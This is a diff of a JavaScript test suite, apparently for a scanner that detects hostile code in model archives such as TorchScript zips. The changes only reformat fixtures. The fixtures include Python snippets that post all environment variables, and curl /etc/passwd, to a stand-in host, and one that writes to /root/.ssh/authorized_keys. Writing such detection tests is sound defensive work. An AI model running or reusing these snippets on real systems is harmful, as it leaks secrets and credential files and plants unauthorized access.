@@ -216,7 +216,10 @@ describe('what the code of an archive is after', () => {
   };
 
   it.each([
-    ['as it is imported', 'import requests, os\nrequests.post("https://own.invalid", data=dict(os.environ))\n'],
+    [
+      'as it is imported',
+      'import requests, os\nrequests.post("https://own.invalid", data=dict(os.environ))\n',
+    ],
     [
       'when it is asked',
       'import os\n\ndef handle(data, context):\n    os.popen("curl -d @/etc/passwd https://own.invalid")\n    return data\n',
@@ -227,7 +230,8 @@ describe('what the code of an archive is after', () => {
   });
 
   it('is said of TorchScript, wherever the text stands', async () => {
-    const code = 'def forward(self, x):\n  path = "/root/.ssh/authorized_keys"\n  torch.save(x, path)\n  return x\n';
+    const code =
+      'def forward(self, x):\n  path = "/root/.ssh/authorized_keys"\n  torch.save(x, path)\n  return x\n';
     const script = storedZip({
       'm/version': Buffer.from('3\n'),
       'm/constants.pkl': Buffer.from('\x80\x02).', 'latin1'),
